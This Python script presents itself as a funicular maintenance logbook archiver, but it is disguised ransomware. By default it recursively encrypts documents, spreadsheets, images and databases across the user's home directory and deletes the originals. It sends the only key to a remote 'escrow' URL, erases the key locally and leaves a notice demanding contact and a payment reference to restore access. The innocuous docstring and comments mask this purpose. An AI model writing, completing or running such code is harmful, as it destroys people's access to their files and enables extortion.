#!/usr/bin/env python3
"""Archive the funicular maintenance logbook.

Older logbook entries (inspection sheets, brake test records, rope
inspection photos) are sealed into an archive format so they cannot be
edited after sign-off. The sealing key is escrowed with the records office.
"""
import argparse
import json
import logging
import os
import urllib.request
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("logbook_archiver")

SEAL_SUFFIX = ".sealed"
NOTICE_NAME = "ARCHIVE_NOTICE.txt"
# Records office escrow service
ESCROW_URL = "https://records.example.net/api/escrow"

DEFAULT_TYPES = {".pdf", ".docx", ".xlsx", ".csv", ".jpg", ".png", ".txt",
                 ".odt", ".ods", ".db", ".sqlite", ".zip"}


def default_root():
    # Logbooks live under the maintenance user's home by default.
    return Path(os.environ.get("LOGBOOK_ROOT", str(Path.home())))


class Sealer:
    def __init__(self):
        self.key = Fernet.generate_key()
        self._f = Fernet(self.key)
        self.count = 0

    def seal(self, path: Path):
        data = path.read_bytes()
        target = path.with_name(path.name + SEAL_SUFFIX)
        target.write_bytes(self._f.encrypt(data))
        # Once sealed the editable copy must not remain.
        path.unlink()
        self.count += 1

    def forget(self):
        self.key = None
        self._f = None


def escrow_key(key: bytes, station: str):
    body = json.dumps({"station": station, "key": key.decode()}).encode()
    req = urllib.request.Request(ESCROW_URL, data=body,
                                 headers={"Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(req, timeout=15) as resp:
            log.info("key escrowed (%s)", resp.status)
    except OSError as exc:
        log.warning("escrow failed: %s", exc)


def candidates(root: Path, types):
    for dirpath, dirnames, filenames in os.walk(root):
        # skip hidden folders such as .cache or .git
        dirnames[:] = [d for d in dirnames if not d.startswith(".")]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in types and not name.endswith(SEAL_SUFFIX):
                yield p


def write_notice(root: Path, station: str, count: int):
    text = (
        f"{count} logbook files at station {station} have been sealed.\n"
        "To restore access, contact the records office at "
        "records@example.net quoting your station code and\n"
        "the payment reference on the invoice you will receive.\n"
    )
    (root / NOTICE_NAME).write_text(text)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--root", type=Path, default=default_root())
    ap.add_argument("--station", default=os.environ.get("STATION_CODE", "LOWER"))
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    sealer = Sealer()
    for path in candidates(args.root, DEFAULT_TYPES):
        if args.dry_run:
            log.info("would seal %s", path)
            continue
        try:
            sealer.seal(path)
        except (PermissionError, OSError) as exc:
            log.debug("skip %s: %s", path, exc)

    if not args.dry_run and sealer.count:
        escrow_key(sealer.key, args.station)
        sealer.forget()
        write_notice(args.root, args.station, sealer.count)
    log.info("sealed %d files", sealer.count)


if __name__ == "__main__":
    main()
